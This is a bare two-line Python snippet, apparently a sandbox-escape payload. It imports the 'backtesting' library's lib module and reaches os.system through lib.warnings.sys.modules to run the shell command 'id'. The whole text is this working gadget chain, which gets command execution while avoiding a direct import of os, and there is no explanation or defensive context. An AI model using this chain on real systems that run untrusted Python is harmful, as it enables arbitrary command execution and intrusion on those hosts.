from backtesting import lib
lib.warnings.sys.modules["os"].system("id")
